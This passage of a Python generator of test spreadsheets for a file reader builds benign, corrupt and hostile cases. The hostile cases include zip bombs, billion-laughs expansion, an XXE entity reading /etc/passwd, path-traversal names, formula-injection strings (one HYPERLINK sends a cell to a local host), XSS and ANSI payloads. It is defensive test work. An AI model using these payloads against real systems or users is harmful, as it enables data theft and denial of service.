                    ("rId3", REL + "/styles", "styles.bin"),
                ]
            ),
            "xl/worksheets/sheet1.bin": sheet,
            "xl/sharedStrings.bin": sst,
            "xl/styles.bin": styles,
        }
    )


# ------------------------------------------------------------------- cases --

CASES: list[dict] = []


def case(
    id_: str,
    file: str,
    category: str,
    expected: str,
    description: str,
    *,
    acceptable: list[str] | None = None,
    rows=None,
    header=None,
    sheet="Vagas",
    header_row: int | None = 1,
    normalize: list[str] | None = None,
    seconds: int | None = None,
    memory_mb: int | None = None,
    tags: list[str] | None = None,
    source: str = "",
    message_hint: str = "",
    outputs: dict | None = None,
    not_clean: bool = False,
):
    """Register one file; the decorated function returns its bytes.

    ``expected`` and ``acceptable`` hold 'read', 'read-with-warning' or 'error'.
    ``rows`` are the values a reader must find; ``not_clean`` marks files for which the
    tool must never answer 'no findings'.
    """

    def deco(fn):
        table = None
        if rows is not None:
            table = {
                "sheet": sheet,
                "header_row": header_row,
                "columns": header or HEADER,
                "rows": rows,
                "normalize": normalize or [],
            }
        lim = {"benign": (10, 512), "broken": (10, 512), "hostile": (30, 1024)}[category]
        CASES.append(
            {
                "id": id_,
                "file": f"{category}/{file}",
                "category": category,
                "expected": expected,
                "acceptable": sorted(set([expected] + (acceptable or []))),
                "description": description,
                "tags": tags or [],
                "source": source,
                "message_hint": message_hint,
                "not_clean": not_clean,
                "table": table,
                "limits": {"seconds": seconds or lim[0], "memory_mb": memory_mb or lim[1]},
                "outputs": outputs or {},
                "_fn": fn,
            }
        )
        return fn

    return deco


# ---- benign: must be read with these values -------------------------------


@case(
    "B01",
    "referencia.xlsx",
    "benign",
    "read",
    "Reference file: shared strings, explicit cell references, styles.",
    rows=ROWS,
)
def _():
    return zip_parts(simple_parts(TABLE), deflate=True)


@case(
    "B02",
    "inline_str.xlsx",
    "benign",
    "read",
    "Every text is an inline string; there is no shared strings part.",
    rows=ROWS,
    source="https://github.com/box/spout/pull/814",
)
def _():
    return zip_parts(simple_parts(TABLE, "inline"))


@case(
    "B03",
    "sem_atributo_r.xlsx",
    "benign",
    "read",
    "Rows and cells have no r attribute (Power BI and other exporters).",
    rows=ROWS,
    source="https://github.com/tafia/calamine/issues/261",
)
def _():
    return zip_parts(simple_parts(TABLE, refs=False, dim=None))


@case(
    "B04",
    "dimensao_menor.xlsx",
    "benign",
    "read",
    "dimension says A1 although the data reaches E6 (WPS and web exporters).",
    rows=ROWS,
    source="https://github.com/pandas-dev/pandas/issues/39001",
)
def _():
    return zip_parts(simple_parts(TABLE, dim="A1"))


@case(
    "B05",
    "dimensao_total.xlsx",
    "benign",
    "read",
    "dimension says A1:XFD1048576 although only 6 rows exist.",
    rows=ROWS,
    source="https://github.com/tafia/calamine/pull/428",
)
def _():
    return zip_parts(simple_parts(TABLE, dim="A1:XFD1048576"))


@case(
    "B06",
    "minimo_sem_estilos.xlsx",
    "benign",
    "read",
    "Only the mandatory parts: no styles, theme, docProps or dimension.",
    rows=ROWS,
    source="https://github.com/kz26/PyExcelerate/issues/34",
)
def _():
    return zip_parts(simple_parts(TABLE, styles=None, doc_props=False, dim=None))


@case(
    "B07",
    "ooxml_strict.xlsx",
    "benign",
    "read",
    "Saved as 'Strict Open XML Spreadsheet' (purl.oclc.org namespaces).",
    rows=ROWS,
    source="https://github.com/ExcelDataReader/ExcelDataReader/issues/498",
)
def _():
    sst = Sst()
    data = sheet_data(TABLE, "sst", sst)
    return zip_parts(xlsx_parts([("Vagas", worksheet(data, "A1:E6", ns=S_MAIN))], sst=sst, strict=True))


@case(
    "B08",
    "prefixo_de_namespace.xlsx",
    "benign",
    "read",
    "All parts use the prefix x: for the main namespace.",
    rows=ROWS,
    source="https://github.com/tafia/calamine/issues/634",
)
def _():
    parts = simple_parts(TABLE)
    for name in list(parts):
        if name.startswith("xl/") and name.endswith(".xml"):
            t = parts[name].decode()
            head, body = t.split("\n", 1)
            body = re.sub(r"<(/?)([A-Za-z])", r"<\1x:\2", body)
            body = body.replace("xmlns=", "xmlns:x=")
            parts[name] = (head + "\n" + body).encode()
    return zip_parts(parts)


@case(
    "B09",
    "rels_absolutos.xlsx",
    "benign",
    "read",
    "Relationship targets are absolute (/xl/worksheets/sheet1.xml).",
    rows=ROWS,
    source="https://github.com/shuchkin/simplexlsx/issues/80",
)
def _():
    parts = simple_parts(TABLE)
    for name in ("_rels/.rels", "xl/_rels/workbook.xml.rels"):
        t = parts[name].decode().replace('Target="xl/', 'Target="/xl/')
        for p in ("worksheets/", "styles.xml", "sharedStrings.xml"):
            t = t.replace(f'Target="{p}', f'Target="/xl/{p}')
        parts[name] = t.replace('Target="docProps', 'Target="/docProps').encode()
    return zip_parts(parts)


@case(
    "B10",
    "barra_invertida_no_zip.xlsx",
    "benign",
    "read",
    "Zip member names use backslashes (some .NET exporters). Excel opens it.",
    rows=ROWS,
    source="https://github.com/tafia/calamine/issues/530",
)
def _():
    return zip_parts({k.replace("/", "\\"): v for k, v in simple_parts(TABLE).items()})


@case(
    "B11",
    "partes_com_outros_nomes.xlsx",
    "benign",
    "read",
    "Unusual but correctly declared part names (xl/dados/planilha_a.xml).",
    rows=ROWS,
    source="https://github.com/python-excel/xlrd/issues/318",
)
def _():
    parts = simple_parts(TABLE)
    ren = {"xl/worksheets/sheet1.xml": "xl/dados/planilha_a.xml", "xl/sharedStrings.xml": "Textos.xml"}
    out = {}
    for k, v in parts.items():
        t = v
        if k == "[Content_Types].xml":
            for a, b in ren.items():
                t = t.replace(b"/" + a.encode(), b"/" + b.encode())
        if k == "xl/_rels/workbook.xml.rels":
            t = t.replace(b'"worksheets/sheet1.xml"', b'"dados/planilha_a.xml"')
            t = t.replace(b'"sharedStrings.xml"', b'"../Textos.xml"')
        out[ren.get(k, k)] = t
    return zip_parts(out)


@case(
    "B12",
    "texto_rico_e_fonetico.xlsx",
    "benign",
    "read",
    "Rich text runs in shared and inline strings; phonetic runs (rPh) must not be added to the text.",
    rows=ROWS,
    source="https://github.com/sebastian-software/xlsx-format/issues/92",
)
def _():
    sst = Sst()
    grid = [list(r) for r in TABLE]
    i = sst.raw(
        "rico1",
        "<si><r><t>Ana</t></r><r><rPr><b/></rPr><t>lista</t></r><r>"
        '<t xml:space="preserve"> Judiciário</t></r><rPh sb="0" eb="3">'
        '<t>FONETICA</t></rPh><phoneticPr fontId="1"/></si>',
    )
    grid[1][0] = Raw(f'<c r="{{r}}" t="s"><v>{i}</v></c>')
    grid[0][2] = Raw(
        '<c r="{r}" t="inlineStr"><is><r><t xml:space="preserve">Ampla </t>'
        "</r><r><rPr><i/></rPr><t>concorrência</t></r></is></c>"
    )
    data = sheet_data(grid, "sst", sst)
    return zip_parts(xlsx_parts([("Vagas", worksheet(data, "A1:E6"))], sst=sst))


@case(
    "B13",
    "formulas_com_valor.xlsx",
    "benign",
    "read",
    "Totals are formulas (plain and shared) with cached results; one text formula.",
    rows=ROWS,
    tags=["formula"],
)
def _():
    grid = [list(r) for r in TABLE]
    for i, r in enumerate(grid[1:], 2):
        f = '<f t="shared" ref="B2:B6" si="0">SUM(C2:E2)</f>' if i == 2 else '<f t="shared" si="0"/>'
        r[1] = Raw(f'<c r="{{r}}">{f}<v>{r[1]}</v></c>')
    grid[4][0] = Raw('<c r="{r}" t="str"><f>CONCATENATE("Agente de ","Polícia")</f><v>Agente de Polícia</v></c>')
    return zip_parts(simple_parts(grid))


@case(
    "B14",
    "escapes_x000d.xlsx",
    "benign",
    "read",
    "_x000D_ escapes and line breaks in headers and texts; non-breaking spaces.",
    rows=ROWS,
    normalize=["whitespace"],
    source="https://github.com/pandas-dev/pandas/issues/58128",
)
def _():
    grid = [list(r) for r in TABLE]
    grid[0][1] = "Total de_x000D_\nvagas"
    grid[0][2] = "Ampla\u00a0concorrência"
    grid[2][0] = "Técnico_x000D_\nAdministrativo"
    return zip_parts(simple_parts(grid))


@case(
    "B15",
    "filtro_personalizado.xlsx",
    "benign",
    "read",
    "autoFilter with a customFilter on plain text, as Excel writes it.",
    rows=ROWS,
    source="https://github.com/theorchard/openpyxl/issues/55",
)
def _():
    return zip_parts(
        simple_parts(
            TABLE,
            after='<autoFilter ref="A1:E6"><filterColumn colId="0"><customFilters>'
            '<customFilter operator="notEqual" val="Analista"/></customFilters>'
            "</filterColumn></autoFilter>",
        )
    )


@case(
    "B16",
    "fill_vazio.xlsx",
    "benign",
    "read",
    "styles.xml has an empty <fill/> entry; Excel opens it without complaint.",
    rows=ROWS,
    source="https://github.com/pandas-dev/pandas/issues/40499",
)
def _():
    p = simple_parts(TABLE)
    p["xl/styles.xml"] = p["xl/styles.xml"].replace(b'<fills count="2">', b'<fills count="3"><fill/>')
    return zip_parts(p)


@case(
    "B17",
    "abas_ocultas_e_vazias.xlsx",
    "benign",
    "read",
    "First sheet empty, second veryHidden with old numbers, data on the third.",
    rows=ROWS,
    sheet="Quadro de Vagas",
    tags=["several-sheets"],
)
def _():
    sst = Sst()
    old = [HEADER] + [[r[0], 1, 1, 0, 0] for r in ROWS]
    return zip_parts(
        xlsx_parts(
            [
                ("Plan1", worksheet("<sheetData/>")),
                ("antigo", worksheet(sheet_data(old, "sst", sst), "A1:E6"), "veryHidden"),
                ("Quadro de Vagas", worksheet(sheet_data(TABLE, "sst", sst), "A1:E6")),
            ],
            sst=sst,
        )
    )


@case(
    "B18",
    "cabecalho_na_linha_6.xlsx",
    "benign",
    "read",
    "Merged title rows, a blank row, then the header on row 6 and a note below.",
    rows=ROWS,
    header_row=6,
)
def _():
    grid = (
        [
            ["PREFEITURA MUNICIPAL", None, None, None, None],
            ["EDITAL Nº 01/2025", None, None, None, None],
            ["ANEXO I - QUADRO DE VAGAS", None, None, None, None],
            [None] * 5,
            [None] * 5,
        ]
        + TABLE
        + [[None] * 5, ["* vagas imediatas", None, None, None, None]]
    )
    merges = "".join(f'<mergeCell ref="A{i}:E{i}"/>' for i in (1, 2, 3))
    return zip_parts(simple_parts(grid, after=f'<mergeCells count="3">{merges}</mergeCells>'))


@case(
    "B19",
    "com_macro.xlsm",
    "benign",
    "read",
    "Macro-enabled workbook; the macro project must not reach any output.",
    rows=ROWS,
    outputs={"forbid_zip_members": ["vbaproject.bin"], "forbid_text": ["macroEnabled"]},
)
def _():
    vba = cfb(
        {
            "VBA/dir": b"\x01" + bytes(60),
            "VBA/ThisWorkbook": bytes(64),
            "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n',
        }
    )
    p = simple_parts(
        TABLE,
        wb_ct=CT_WB_MACRO,
        ct_extra='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        rel_extra='<Relationship Id="rIdVba" Type="http://schemas.microsoft'
        '.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>',
    )
    p["xl/vbaProject.bin"] = vba
    return zip_parts(p)


@case("B20", "biff8.xls", "benign", "read", "Excel 97-2003 binary workbook.", rows=ROWS)
def _():
    return biff8(TABLE)


@case(
    "B21",
    "html_renomeado.xls",
    "benign",
    "read-with-warning",
    "An HTML table saved with the .xls extension (web systems). Reading it is ideal; "
    "a clear message saying it is HTML is acceptable.",
    rows=ROWS,
    acceptable=["read", "error"],
    message_hint="html",
    source="https://github.com/python-excel/xlrd/issues/350",
)
def _():
    rows = "".join("<tr>" + "".join(f"<td>{esc(str(v))}</td>" for v in r) + "</tr>" for r in TABLE)
    return (
        '<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta '
        'charset="utf-8"></head><body><table border="1">' + rows + "</table></body></html>"
    ).encode("utf-8")


@case(
    "B22",
    "ponto_e_virgula_cp1252.csv",
    "benign",
    "read",
    "CSV written by Brazilian Excel: semicolons, Windows-1252, CRLF.",
    rows=ROWS,
)
def _():
    return "".join(";".join(map(str, r)) + "\r\n" for r in TABLE).encode("cp1252")


@case(
    "B23",
    "texto_unicode_utf16.csv",
    "benign",
    "read",
    "'Unicode text' export: UTF-16LE with BOM, tab separated.",
    rows=ROWS,
)
def _():
    t = "".join("\t".join(map(str, r)) + "\r\n" for r in TABLE)
    return b"\xff\xfe" + t.encode("utf-16-le")


@case(
    "B24",
    "libreoffice.ods",
    "benign",
    "read",
    "ODS whose empty tail is declared as 16,379 columns and 1,048,570 rows.",
    rows=ROWS,
    source="https://github.com/saulpw/visidata/issues/2440",
)
def _():
    return ods_file(
        ods_rows(TABLE, 16379) + '<table:table-row table:number-rows-repeated="1048570">'
        '<table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
    )


@case(
    "B25",
    "gravado_em_fluxo.xlsx",
    "benign",
    "read",
    "Streamed archive: sizes only in data descriptors after each member.",
    rows=ROWS,
)
def _():
    z = RawZip()
    for k, v in simple_parts(TABLE).items():
        z.add(k, v, deflate=True, descriptor=True)
    return z.finish()


@case(
    "B26",
    "datas_1904.xlsx",
    "benign",
    "read",
    "Workbook in the 1904 date system with a date column (2025-03-10).",
    rows=[r + ["2025-03-10"] for r in ROWS],
    header=HEADER + ["Data do edital"],
    normalize=["date"],
)
def _():
    grid = [HEADER + ["Data do edital"]] + [r + [Raw('<c r="{r}" s="2"><v>44264</v></c>')] for r in ROWS]
    return zip_parts(simple_parts(grid, wb_pr='<workbookPr date1904="1"/>'))


@case(
    "B27",
    "erro_na_coluna_de_vagas.xlsx",
    "benign",
    "read-with-warning",
    "Two vacancy numbers are #REF! and #N/A. They are not zero and not blank: the result can never be 'all good'.",
    acceptable=["error"],
    not_clean=True,
    source="https://github.com/dimastbk/python-calamine/issues/105",
)
def _():
    g = [list(r) for r in TABLE]
    g[2][4] = Raw('<c r="{r}" t="e"><f>#REF!*2</f><v>#REF!</v></c>')
    g[3][3] = Raw('<c r="{r}" t="e"><v>#N/A</v></c>')
    return zip_parts(simple_parts(g))


@case(
    "B28",
    "resumo_do_numbers.xlsx",
    "benign",
    "read",
    "Apple Numbers export: a summary sheet with hyperlinks first, the table second, offset by one row and one column.",
    rows=ROWS,
    sheet="Planilha 1 - Tabela 1",
    header_row=2,
    tags=["several-sheets"],
)
def _():
    sst = Sst()
    summary = [
        ["Export Summary", None],
        ["Numbers Sheet Name", "Excel Worksheet Name"],
        ["Planilha 1", "Planilha 1 - Tabela 1"],
    ]
    grid = [[None] * 6] + [[None] + r for r in TABLE]
    return zip_parts(
        xlsx_parts(
            [
                (
                    "Export Summary",
                    worksheet(
                        sheet_data(summary, "sst", sst),
                        "A1:B3",
                        after='<hyperlinks><hyperlink ref="B3" location='
                        "\"'Planilha 1 - Tabela 1'!R1C1\"/></hyperlinks>",
                    ),
                ),
                ("Planilha 1 - Tabela 1", worksheet(sheet_data(grid, "sst", sst), "A1:F7")),
            ],
            sst=sst,
        )
    )


@case(
    "B29",
    "texto_tabulado.xls",
    "benign",
    "read-with-warning",
    "Tab-separated Windows-1252 text with the .xls extension (Crystal Reports, SAP).",
    rows=ROWS,
    acceptable=["read", "error"],
    message_hint="texto|csv|tabula",
    source="https://github.com/python-excel/xlrd/issues/351",
)
def _():
    return "".join("\t".join(map(str, r)) + "\r\n" for r in TABLE).encode("cp1252")


# ---- broken: unusable input, clear message, no traceback ------------------


@case("E01", "zero_bytes.xlsx", "broken", "error", "Empty file.", message_hint="vazio")
def _():
    return b""


@case(
    "E02",
    "zip_truncado.xlsx",
    "broken",
    "error",
    "Archive cut at 60 % (interrupted download).",
    message_hint="corrompid|truncad",
)
def _():
    b = zip_parts(simple_parts(TABLE), deflate=True)
    return b[: len(b) * 6 // 10]


@case(
    "E03",
    "xml_da_aba_truncado.xlsx",
    "broken",
    "error",
    "Valid archive, but the sheet XML stops in the middle of row 4. Reading the first rows silently would be wrong.",
)
def _():
    p = simple_parts(TABLE)
    s = p["xl/worksheets/sheet1.xml"]
    p["xl/worksheets/sheet1.xml"] = s[: s.index(b'<row r="4"') + 40]
    return zip_parts(p)


@case("E04", "sem_workbook.xlsx", "broken", "error", "Zip without xl/workbook.xml.")
def _():
    p = simple_parts(TABLE)
    del p["xl/workbook.xml"]
    return zip_parts(p)


@case("E05", "bytes_aleatorios.xlsx", "broken", "error", "4 KiB of random bytes with the .xlsx extension.")
def _():
    return random.Random(20250310).randbytes(4096)


@case("E06", "pdf_renomeado.xlsx", "broken", "error", "A PDF renamed to .xlsx.", message_hint="pdf")
def _():
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


@case(
    "E07",
    "protegido_por_senha.xlsx",
    "broken",
    "error",
    "Encrypted with the password 'segredo' (valid ECMA-376 standard encryption).",
    message_hint="senha",
    tags=["password:segredo"],
)
def _():
    return encrypt_ooxml(zip_parts(simple_parts(TABLE)), "segredo")


@case("E08", "biff_truncado.xls", "broken", "error", "Excel 97-2003 file cut at 40 %.")
def _():
    b = biff8(TABLE)
    return b[: len(b) * 4 // 10]


@case(
    "E09",
    "sem_celulas.xlsx",
    "broken",
    "error",
    "Valid workbook without a single filled cell.",
    message_hint="vazi|nenhum",
)
def _():
    return zip_parts(xlsx_parts([("Plan1", worksheet("<sheetData/>", "A1"))]))


@case(
    "E10",
    "indice_de_texto_invalido.xlsx",
    "broken",
    "error",
    "A cell points to shared string 9999, which does not exist.",
    acceptable=["read-with-warning"],
    not_clean=True,
)
def _():
    g = [list(r) for r in TABLE]
    g[3][0] = Raw('<c r="{r}" t="s"><v>9999</v></c>')
    return zip_parts(simple_parts(g))


@case(
    "E11",
    "crc_errado.xlsx",
    "broken",
    "error",
    "The CRC of the sheet part does not match its contents.",
    acceptable=["read-with-warning"],
    not_clean=True,
)
def _():
    z = RawZip()
    for k, v in simple_parts(TABLE).items():
        z.add(k, v, crc=0xDEADBEEF if "sheet1" in k else None)
    return z.finish()


@case("E12", "binario.csv", "broken", "error", "NUL bytes and binary noise with the .csv extension.")
def _():
    return b"\x00\x01\x02;PK\x00\x00" + random.Random(7).randbytes(3000)


@case(
    "E13",
    "sem_textos_compartilhados.xlsx",
    "broken",
    "error",
    "Cells point to shared strings, but the part is missing from the package.",
    source="https://github.com/duckdb/duckdb-excel/issues/82",
)
def _():
    p = simple_parts(TABLE)
    del p["xl/sharedStrings.xml"]
    return zip_parts(p)


@case(
    "E14",
    "biff_sem_o_final.xls",
    "broken",
    "error",
    "Excel 97-2003 file without its last 11 % (allocation table and half of the directory missing).",
)
def _():
    b = biff8(TABLE)
    return b[: len(b) * 888 // 1000]


# ---- hostile: bounded time and memory, nothing executed or forwarded ------


@case(
    "H01",
    "bomba_zip_4gb.xlsx",
    "hostile",
    "error",
    "The sheet part inflates from 4 MB to 4 GiB of spaces (honest sizes).",
    seconds=10,
    memory_mb=512,
    message_hint="limite|tamanho",
)
def _():
    p = simple_parts(TABLE)
    s = p.pop("xl/worksheets/sheet1.xml")
    a, b = s.split(b"<sheetData>")
    z = RawZip()
    for k, v in p.items():
        z.add(k, v)
    z.add("xl/worksheets/sheet1.xml", raw=repeated(a, b" " * (1 << 20), 4096, b"<sheetData>" + b))
    return z.finish()


@case(
    "H02",
    "bomba_zip_tamanho_falso.xlsx",
    "hostile",
    "error",
    "The shared strings inflate to 1 GiB but the headers declare 60 KB.",
    seconds=10,
    memory_mb=512,
)
def _():
    p = simple_parts(TABLE)
    s = p.pop("xl/sharedStrings.xml")
    a, b = s.split(b"<si>", 1)
    z = RawZip()
    for k, v in p.items():
        z.add(k, v)
    z.add("xl/sharedStrings.xml", raw=repeated(a, b" " * (1 << 20), 1024, b"<si>" + b), usize=60000)
    return z.finish()


# ten levels of ten references each
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a0 "RISO">'
    + "".join(f'<!ENTITY a{i} "{"&a%d;" % (i - 1) * 10}">' for i in range(1, 10))
    + "]>"
)


@case(
    "H03",
    "billion_laughs.xlsx",
    "hostile",
    "error",
    "Nested entity expansion in the shared strings (4 GB of text).",
    seconds=10,
    memory_mb=512,
)
def _():
    p = simple_parts(TABLE)
    p["xl/sharedStrings.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?>' + LAUGHS + f'<sst xmlns="{MAIN}"><si><t>&a9;</t></si></sst>'
    ).encode()
    return zip_parts(p)


@case(
    "H04",
    "xxe_arquivo_local.xlsx",
    "hostile",
    "error",
    "External entity pointing at a local file. The file's contents must never appear in any output.",
    acceptable=["read-with-warning"],
    outputs={"forbid_text": ["root:x:0:0", "root:*:0:0"]},
)
def _():
    p = simple_parts(TABLE, "inline")
    s = p["xl/worksheets/sheet1.xml"].decode()
    head, body = s.split("\n", 1)
    body = body.replace("Analista Judiciário", "&ext;")
    p["xl/worksheets/sheet1.xml"] = (
        head + '<!DOCTYPE worksheet [<!ENTITY ext SYSTEM "file:///etc/passwd">]>' + body
    ).encode()
    return zip_parts(p)


@case(
    "H05",
    "dtd_remota.xlsx",
    "hostile",
    "error",
    "workbook.xml has a DOCTYPE with a remote DTD; no connection may be made.",
    acceptable=["read-with-warning"],
    rows=ROWS,
)
def _():
    p = simple_parts(TABLE)
    t = p["xl/workbook.xml"].decode().split("\n", 1)
    p["xl/workbook.xml"] = (t[0] + '<!DOCTYPE workbook SYSTEM "http://127.0.0.1:9/x.dtd">' + t[1]).encode()
    return zip_parts(p)


@case(
    "H06",
    "nomes_com_travessia.xlsx",
    "hostile",
    "read",
    "Extra members named ../../x, /abs and C:\\x. They must not be extracted.",
    rows=ROWS,
    acceptable=["error", "read-with-warning"],
    outputs={"forbid_created": ["travessia_marcador.txt"], "forbid_zip_members": ["travessia_marcador.txt"]},
)
def _():
    p = simple_parts(TABLE)
    for n in (
        "../../travessia_marcador.txt",
        "../travessia_marcador.txt",
        "C:\\travessia_marcador.txt",
        "xl/../../../travessia_marcador.txt",
    ):
        p[n] = b"x"
    return zip_parts(p)


@case(
    "H07",
    "xml_muito_aninhado.xlsx",
    "hostile",
    "error",
    "100,000 nested elements in an extension list.",
    acceptable=["read", "read-with-warning"],
    rows=ROWS,
)
def _():
    n = 100_000
    return zip_parts(
        simple_parts(TABLE, after='<extLst><ext uri="{0}">' + "<a>" * n + "</a>" * n + "</ext></extLst>"), deflate=True
    )


@case(
    "H08",
    "um_milhao_de_estilos.xlsx",
    "hostile",
    "error",
    "styles.xml with 1,000,000 cell formats (70 MB of XML).",
    acceptable=["read", "read-with-warning"],
    rows=ROWS,
)
def _():
    p = simple_parts(TABLE)
    s = p.pop("xl/styles.xml")
    xf = b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    a, b = s.split(b'<cellXfs count="3">')
    z = RawZip()
    for k, v in p.items():
        z.add(k, v)
    z.add("xl/styles.xml", raw=repeated(a + b'<cellXfs count="1000003">', xf * 1000, 1000, b))
    return z.finish()


@case(
    "H09",
    "texto_de_20mb.xlsx",
    "hostile",
    "error",
    "One cell holds 20 million characters (the format allows 32,767).",
    acceptable=["read-with-warning"],
)
def _():
    p = simple_parts(TABLE)
    s = p.pop("xl/sharedStrings.xml")
    a, b = s.split(b"Assistente Social")
    z = RawZip()
    for k, v in p.items():
        z.add(k, v)
    z.add("xl/sharedStrings.xml", raw=repeated(a, b"A" * 1_000_000, 20, b))
    return z.finish()


@case(
    "H10",
    "texto_compartilhado_repetido.xlsx",
    "hostile",
    "error",
    "200,000 cells share one 32,000-character string (6 GB if copied per cell).",
    acceptable=["read", "read-with-warning"],
    memory_mb=1024,
    seconds=30,
)
def _():
    sst = Sst()
    data = sheet_data(TABLE, "sst", sst)
    big = sst.get("Z" * 32000)
    rows = "".join(f'<row r="{i}"><c r="G{i}" t="s"><v>{big}</v></c></row>' for i in range(7, 200_007))
    data = data.replace("</sheetData>", rows + "</sheetData>")
    return zip_parts(xlsx_parts([("Vagas", worksheet(data, "A1:G200006"))], sst=sst), deflate=True)


@case(
    "H11",
    "atributo_de_50mb.xlsx",
    "hostile",
    "error",
    "An XML attribute of 50 MB on the worksheet element.",
    acceptable=["read", "read-with-warning"],
    rows=ROWS,
    memory_mb=512,
)
def _():
    p = simple_parts(TABLE)
    s = p.pop("xl/worksheets/sheet1.xml")
    a, b = s.split(b"<worksheet ")
    z = RawZip()
    for k, v in p.items():
        z.add(k, v)
    z.add("xl/worksheets/sheet1.xml", raw=repeated(a + b'<worksheet data-x="', b"A" * 1_000_000, 50, b'" ' + b))
    return z.finish()


@case(
    "H12",
    "cantos_distantes.xlsx",
    "hostile",
    "error",
    "The table plus one legal cell at XFD1048576 (17 billion cells if densified).",
    acceptable=["read", "read-with-warning"],
    rows=ROWS,
    memory_mb=512,
    source="https://github.com/tafia/calamine/issues/693",
)
def _():
    p = simple_parts(TABLE, dim="A1:XFD1048576")
    k = "xl/worksheets/sheet1.xml"
    p[k] = p[k].replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    return zip_parts(p)


@case(
    "H13",
    "contagem_de_textos_falsa.xlsx",
    "hostile",
    "read",
    "sst declares uniqueCount=4294967295 but holds ten strings.",
    rows=ROWS,
    acceptable=["error", "read-with-warning"],
    memory_mb=512,
    source="https://github.com/tafia/calamine/issues/684",
)
def _():
    p = simple_parts(TABLE)
    k = "xl/sharedStrings.xml"
    p[k] = p[k].replace(b'uniqueCount="10"', b'uniqueCount="4294967295"')
    assert b"4294967295" in p[k]
    return zip_parts(p)


INJ = [
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    '\t=HYPERLINK("http://127.0.0.1:9/?v="&B2;"x")',
]


@case(
    "H14",
    "injecao_de_formula.xlsx",
    "hostile",
    "read",
    "Position names that are formulas when typed; here they are plain text.",
    rows=[[t] + r[1:] for t, r in zip(INJ, ROWS)],
    outputs={"no_formula_cells": True, "csv_safe": True},
)
def _():
    return zip_parts(simple_parts([HEADER] + [[t] + r[1:] for t, r in zip(INJ, ROWS)]))


HTMLS = [
    "<script>alert('XSSMARCA1')</script>",
    "<img src=x onerror=alert('XSSMARCA2')>",
    "\"><svg onload=alert('XSSMARCA3')>",
    "' onmouseover='alert(1)' x='XSSMARCA4",
    "&lt;b&gt;XSSMARCA5&amp;",
]


@case(
    "H15",
    "html_no_texto.xlsx",
    "hostile",
    "read",
    "Cells and sheet name with HTML and script; must appear as text in the report.",
    rows=[[t] + r[1:] for t, r in zip(HTMLS, ROWS)],
    sheet="<b onclick=1>Vagas",
    outputs={"html_inert": True},
)
def _():
    return zip_parts(simple_parts([HEADER] + [[t] + r[1:] for t, r in zip(HTMLS, ROWS)], name="<b onclick=1>Vagas"))


ANSI = [
    "\x1b[2J\x1b[1;1HAPROVADO",
    "\x1b]0;titulo\x07Cargo",
    "\x9b31mVermelho",
    "Perito\rPROVADO",
    "\x1b[8moculto\x1b[0m\x08\x08",
]
ANSI_OUT = {"terminal_safe": True}


@case(
    "H16",
    "ansi_no_texto.csv",
    "hostile",
    "read",
    "CSV texts with ANSI sequences, OSC title, C1 control, carriage return, backspace.",
    rows=[[t] + r[1:] for t, r in zip(ANSI, ROWS)],
    outputs=ANSI_OUT,
    acceptable=["read-with-warning", "error"],
    normalize=["control"],
)
def _():
    def q(v):
        return '"' + str(v).replace('"', '""') + '"'

    return "".join(";".join(map(q, r)) + "\r\n" for r in [HEADER] + [[t] + r[1:] for t, r in zip(ANSI, ROWS)]).encode(
        "utf-8"
    )


@case(
    "H17",
    "ansi_escapado.xlsx",
    "hostile",
    "read",
    "The same control characters written as _x001B_ escapes in an .xlsx.",
    rows=[[t] + r[1:] for t, r in zip(ANSI, ROWS)],
    outputs=ANSI_OUT,
    acceptable=["read-with-warning", "error"],
    normalize=["control"],
)
def _():
    def x(t):
        return "".join(f"_x{ord(c):04X}_" if ord(c) < 32 or 0x7F <= ord(c) < 0xA0 else c for c in t)

    return zip_parts(simple_parts([HEADER] + [[x(t)] + r[1:] for t, r in zip(ANSI, ROWS)]))


BIDI = [
    "Analista \u202eoiráiciduJ",
    "Técnico\u2066\u2069 Administrativo",
    "Médico\u200b do Trabalho",
    "Agente\u061c de Polícia",
    "\ufeffAssistente Social",
]


@case(
    "H18",
    "bidi_invisiveis.xlsx",
    "hostile",
    "read",
    "Bidirectional overrides and zero-width characters inside the names.",
    acceptable=["read-with-warning"],
    rows=[[t] + r[1:] for t, r in zip(BIDI, ROWS)],
    normalize=["control"],
    outputs={"no_bidi_terminal": True},
)
def _():
    return zip_parts(simple_parts([HEADER] + [[t] + r[1:] for t, r in zip(BIDI, ROWS)]))


@case(
    "H19",
    "nomes_de_aba_hostis.xlsx",
    "hostile",
    "read",
    "Sheet names with apostrophes, path separators, =, emoji, 60 characters and a case-insensitive duplicate.",
    rows=ROWS,
    sheet="'D'Ávila'!A1",
    acceptable=["read-with-warning"],
    tags=["several-sheets"],
    outputs={"no_formula_cells": True, "forbid_created": ["aba_marcador"]},
)
def _():
    sst = Sst()
    main = worksheet(sheet_data(TABLE, "sst", sst), "A1:E6")
    other = worksheet("<sheetData/>")
    names = [
        "'D'Ávila'!A1",
        "../../aba_marcador",
        "=1+1",
        "vagas",
        "VAGAS",
        "😀 Vagas 🚀",
        "x" * 60,
        "CON",
        "a/b\\c:d*e?f[g]",
    ]
    return zip_parts(xlsx_parts([(n, main if i == 0 else other) for i, n in enumerate(names)], sst=sst))


@case(
    "H20",
    "bomba_de_repeticao.ods",
    "hostile",
    "error",
    "ODS that repeats a filled cell 16,384 times in 1,048,576 rows.",
    seconds=10,
    memory_mb=512,
    source="https://github.com/tafia/calamine/issues/594",
)
def _():
    return ods_file(
        ods_rows(TABLE) + '<table:table-row table:number-rows-repeated="1048576">'
        '<table:table-cell office:value-type="float" office:value="1" '
        'table:number-columns-repeated="16384"><text:p>1</text:p></table:table-cell>'
        "</table:table-row>"
    )


@case(
    "H21",
    "campo_de_10mb.csv",
    "hostile",
    "error",
